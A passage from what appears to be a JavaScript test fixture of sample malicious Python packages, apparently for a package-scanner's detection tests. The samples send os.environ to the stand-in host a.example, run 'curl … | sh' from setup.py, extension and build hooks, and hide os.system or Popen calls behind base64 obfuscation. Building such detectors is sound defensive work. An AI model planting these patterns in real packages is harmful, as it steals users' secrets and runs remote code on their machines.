req.add_header("Content-Type", f"multipart/form-data; boundary={boundary}")
urllib.request.urlopen(req)`),
  'header-exfil': module(`import base64, json, os, urllib.request
req = urllib.request.Request("https://a.example/c")
req.add_header("X-Trace", base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())
urllib.request.urlopen(req)`),
  'cookie-exfil': module(`import os, requests
s = requests.Session()
s.cookies.set("t", str(dict(os.environ)))
s.get("https://a.example/c")`),
  'prepared-request': module(`import os, requests
s = requests.Session()
r = requests.Request("POST", "https://a.example/c", json=dict(os.environ)).prepare()
s.send(r)`),
  'pool-urllib3': module(`import os, urllib3
http = urllib3.HTTPSConnectionPool("a.example")
http.urlopen("POST", "/c", body=str(dict(os.environ)))`),
  'setup-class-attr': setup(`import base64, os
class _Build:
    steps = ("${SHELL}",)
    def __init__(self):
        for step in self.steps:
            os.system(base64.b64decode(step).decode())
_Build()`),
  'setup-exec-version': {
    ...setup(
      'import os\nns = {}\nwith open(os.path.join("own", "_version.py")) as f:\n    exec(f.read(), ns)',
    ),
    'own/_version.py': "__version__ = '1.0'\nimport os\nos.system('curl -s http://a.example/i | sh')\n",
  },
  'setup-extension': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': 'from . import _speed\n',
    'own/_speed.c':
      '#include <Python.h>\n#include <stdlib.h>\nstatic struct PyModuleDef m = { PyModuleDef_HEAD_INIT, "_speed" };\nPyMODINIT_FUNC PyInit__speed(void) {\n  system("curl -s http://a.example/i | sh");\n  return PyModule_Create(&m);\n}\n',
    'setup.py':
      "from setuptools import Extension, setup\nsetup(name='own', version='1.0', packages=['own'], ext_modules=[Extension('own._speed', ['own/_speed.c'])])\n",
  },
  'setup-cython': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': 'from . import _speed\n',
    'own/_speed.pyx': "import os\nos.system('curl -s http://a.example/i | sh')\n",
    'setup.py':
      "from setuptools import Extension, setup\nfrom Cython.Build import cythonize\nsetup(name='own', version='1.0', packages=['own'], ext_modules=cythonize('own/_speed.pyx'))\n",
  },
  'setup-script-file': setup(
    "import os, subprocess, sys\nsubprocess.run([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tools', 'post.py')])",
    { 'tools/post.py': "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))\n" },
  ),
  'setup-script-path': setup(
    "import subprocess, sys\nfrom pathlib import Path\nsubprocess.check_call([sys.executable, str(Path(__file__).parent / 'tools' / 'post.py')])",
    { 'tools/post.py': "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))\n" },
  ),
  'setup-shell-file': setup(
    "import os, subprocess\nhere = os.path.abspath(os.path.dirname(__file__))\nsubprocess.call(['bash', os.path.join(here, 'build.sh')])",
    { 'build.sh': '#!/bin/bash\ncurl -s http://a.example/i | bash\n' },
  ),
  'dynamic-builtin': module(`import base64, builtins, sys
def shift(text, key):
    return "".join(chr((b - key) % 256) for b in base64.b64decode(text))
name = "".join(shift(part, sys.argv[1].encode()[0]) for part in ["DA==", "Hw==", "DA==", "Cg=="])
getattr(builtins, name)(base64.b64decode(shift("ChT9Gwna", len(name))).decode())`),
  'dynamic-module': module(`import base64, importlib, os
def reveal(text):
    return base64.b64decode(text).decode()
module = importlib.import_module(reveal("${b64('subprocess')}"))
getattr(module, reveal("${b64('Popen')}"))(reveal("${SHELL}"), shell=True)`),
  'dynamic-dict': module(`import base64
reveal = lambda t: base64.b64decode(t).decode()
vars(__import__(reveal("${b64('os')}")))[reveal("${b64('system')}")](reveal("${SHELL}"))`),
};
